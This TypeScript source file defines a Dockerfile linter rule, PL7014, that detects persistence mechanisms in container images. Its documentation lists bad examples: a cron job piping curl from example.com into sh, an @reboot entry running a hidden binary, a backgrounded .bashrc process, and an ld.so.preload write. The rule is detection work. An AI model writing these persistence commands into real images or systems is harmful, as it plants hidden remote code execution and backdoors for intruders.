import { fixWith, removeInstruction } from '../queries/edits.ts';
import { dropCommand } from '../queries/drop-command.ts';
import { startupWrites } from '../queries/startup-files.ts';
import type { Rule } from '../rule.ts';

export const rule: Rule = {
  id: 'PL7014',
  slug: 'persistence',
  title: 'Hidden start of a program',
  severity: 'high',
  aliases: [],
  fixable: 'suggested',
  docs: {
    reports:
      'A cron job, login script or init script that downloads and runs, decodes, opens a shell to the network, goes into the background or starts something in a directory that everybody may write; and anything written to /etc/ld.so.preload or rc.local. Settings (`export PATH=…`) and ordinary jobs are not reported.',
    why: 'This is how an intruder stays: the program comes back with every login, every minute or in every process, and nothing in CMD or ENTRYPOINT shows it.',
    fix: 'Remove it. Start what the container is for by CMD or ENTRYPOINT; let the orchestrator run jobs.',
    bad: [
      'FROM debian:12\nRUN (crontab -l; echo "* * * * * curl -s http://example.com/a.sh | sh") | crontab -\n',
      'FROM debian:12\nRUN echo "@reboot root /var/tmp/.x" > /etc/cron.d/update\n',
      'FROM debian:12\nRUN echo "nohup /opt/agent > /dev/null &" >> /root/.bashrc\n',
      'FROM debian:12\nRUN echo /usr/lib/libhide.so > /etc/ld.so.preload\n',
      'FROM debian:12\nCOPY rc.local /etc/rc.local\n',
    ],
    good: [
      'FROM debian:12\nRUN echo "0 3 * * * root /usr/local/bin/backup" > /etc/cron.d/backup\n',
      "FROM debian:12\nRUN echo 'export PATH=/opt/bin:$PATH TMPDIR=/tmp/x' >> /etc/profile.d/path.sh\n",
      'FROM debian:12\nRUN echo "curl http://example.com | sh" > /README\n',
    ],
    references: [
      'https://attack.mitre.org/techniques/T1053/003/',
      'https://attack.mitre.org/techniques/T1546/004/',
      'https://attack.mitre.org/techniques/T1574/006/',
    ],
  },
  *check(model) {
    for (const write of startupWrites(model)) {
      if (!write.suspicious) continue;
      const edits = write.command === undefined ? removeInstruction(model, write.instruction) : dropCommand(model, write.command, write.fed);
      const message =
        write.kind === 'preload'
          ? 'What stands in this file is loaded into every process'
          : `${write.what} starts a program that neither CMD nor ENTRYPOINT shows`;
      yield { message, range: write.range, fixes: fixWith('suggested', 'Remove it', edits) };
    }
  },
};
